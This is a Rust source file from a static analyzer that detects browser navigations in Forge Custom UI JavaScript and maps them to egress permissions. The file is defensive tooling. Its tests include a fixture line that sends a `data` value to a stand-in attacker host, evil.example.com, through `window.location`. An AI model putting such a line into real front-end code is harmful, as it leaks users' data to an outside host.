//! (This pass also reads the elements code creates, `elements.rs`: both exist
//! only in a browser.)
//!
//! Navigations that take the user (and whatever the URL carries) off the
//! platform: `window.location = url`, `location.href = url`,
//! `location.assign/replace(url)`, `window.open(url)` and `@forge/bridge`'s
//! `router.open/navigate(url)`. A Custom UI's Content-Security-Policy does not
//! stop any of them (forge-facts.md 1.1); `router.*` is governed by
//! `permissions.external.navigation`. Relative URLs stay on the platform and
//! are dropped by the caller like any relative request. The `detail` names
//! (`window.location`, `router.open`...) are what the egress check maps to
//! `permissions.external.navigation` (verify/egress.rs `lists_for`).

use oxc_ast::AstKind;
use oxc_ast::ast::{Argument, AssignmentTarget};
use oxc_semantic::Semantic;

use super::network::Effect;
use super::url::Prefix;
use super::value::{Resolver, Val, member_of};
use crate::model::Side;

/// Every navigation in a browser-side file with the offset of its call or
/// assignment (backend code has no window to navigate).
pub fn navigations<'a>(
    semantic: &Semantic<'a>,
    resolver: &Resolver<'a, '_>,
    side: Side,
) -> Vec<(Effect, u32)> {
    let mut out = Vec::new();
    if matches!(side, Side::Backend | Side::Remote) {
        return out;
    }
    for node in semantic.nodes().iter() {
        match node.kind() {
            AstKind::AssignmentExpression(a) if is_location_target(resolver, &a.left) => {
                out.push((
                    request("window.location", resolver.prefix(&a.right)),
                    a.span.start,
                ));
            }
            // Elements made in code load their URL; read in this same pass.
            AstKind::AssignmentExpression(a) => {
                if let Some(effect) = super::elements::assignment_load(resolver, a) {
                    out.push((effect, a.span.start));
                }
            }
            AstKind::CallExpression(call) => {
                let callee = resolver.eval(&call.callee);
                let Some(detail) = navigation_call(&callee) else {
                    if let Some(effect) = super::elements::call_load(resolver, &callee, call) {
                        out.push((effect, call.span.start));
                    }
                    continue;
                };
                let url = call
                    .arguments
                    .first()
                    .and_then(Argument::as_expression)
                    .map_or_else(Prefix::unknown, |e| resolver.prefix(e));
                out.push((request(detail, url), call.span.start));
            }
            _ => {}
        }
    }
    out
}

fn request(detail: &str, url: Prefix) -> Effect {
    Effect::Navigation {
        detail: detail.to_string(),
        url,
    }
}

/// The global path with the objects that only lead to `location` removed:
/// `document.location.href` and `window.top.location` -> `location...`.
fn location_path<'p>(path: &'p [&'p str]) -> &'p [&'p str] {
    let mut rest = path;
    while let [first, tail @ ..] = rest
        && matches!(*first, "document" | "top" | "parent")
        && !tail.is_empty()
    {
        rest = tail;
    }
    rest
}

/// `location = x`, `window.location = x`, `location.href = x`.
fn is_location_target<'a>(resolver: &Resolver<'a, '_>, target: &'a AssignmentTarget<'a>) -> bool {
    match target {
        AssignmentTarget::AssignmentTargetIdentifier(id) => {
            id.name == "location" && resolver.is_global(id)
        }
        _ => {
            let Some(member) = target.as_member_expression() else {
                return false;
            };
            let Some(prop) = member.static_property_name() else {
                return false;
            };
            // Read like any member: `window.location` is the global `location`.
            let Val::Global(path) = member_of(resolver.eval(member.object()), prop) else {
                return false;
            };
            matches!(location_path(&path), ["location"] | ["location", "href"])
        }
    }
}

fn navigation_call(callee: &Val<'_>) -> Option<&'static str> {
    match callee {
        Val::Global(path) => match location_path(path) {
            ["location", "assign"] => Some("location.assign"),
            ["location", "replace"] => Some("location.replace"),
            ["open"] => Some("window.open"),
            _ => None,
        },
        Val::Module { module, path } if *module == "@forge/bridge" => match path.as_slice() {
            ["router", "open"] => Some("router.open"),
            ["router", "navigate"] => Some("router.navigate"),
            _ => None,
        },
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use crate::model::{Observation, ObservationKind, Side};
    use crate::practice::scan_js;
    use crate::rulesets::Catalogue;

    fn navigations(side: Side, source: &str) -> Vec<(u32, String, Option<String>)> {
        let observations: Vec<Observation> = scan_js(
            "static/app/src/App.js",
            source,
            side,
            &Catalogue::from_vendors(Vec::new()),
        )
        .unwrap();
        observations
            .into_iter()
            .filter(|o| o.kind == ObservationKind::NetworkCall)
            .map(|o| (o.location.line, o.detail, o.host))
            .collect()
    }

    #[test]
    fn leaving_the_page_is_a_network_call_with_its_host() {
        let source = "import { router } from '@forge/bridge';\n\
                      window.location = 'https://evil.example.com/?d=' + data;\n\
                      window.location.href = `https://a.example.com/${id}`;\n\
                      document.location.assign('https://b.example.com/x');\n\
                      location.replace(next);\n\
                      window.open('https://c.example.com');\n\
                      router.open('https://docs.example.com/help');\n\
                      router.navigate('/browse/ISSUE-1');\n";
        let found = navigations(Side::Frontend, source);
        let host = |h: &str| Some(h.to_string());
        assert_eq!(
            found,
            [
                (2, "window.location".into(), host("evil.example.com")),
                (3, "window.location".into(), host("a.example.com")),
                (4, "location.assign".into(), host("b.example.com")),
                (5, "location.replace".into(), None),
                (6, "window.open".into(), host("c.example.com")),
                (7, "router.open".into(), host("docs.example.com")),
            ]
        );
    }

    #[test]
    fn decoys_stay_silent() {
        let source = "const location = { href: '' };\n\
                      location.href = 'https://x.example.com';\n\
                      const router = { open() {} };\n\
                      router.open('https://y.example.com');\n\
                      function open(u) {}\n\
                      open('https://z.example.com');\n";
        assert!(navigations(Side::Frontend, source).is_empty());
        let backend = "window.location = 'https://evil.example.com';";
        assert!(navigations(Side::Backend, backend).is_empty());
    }
}
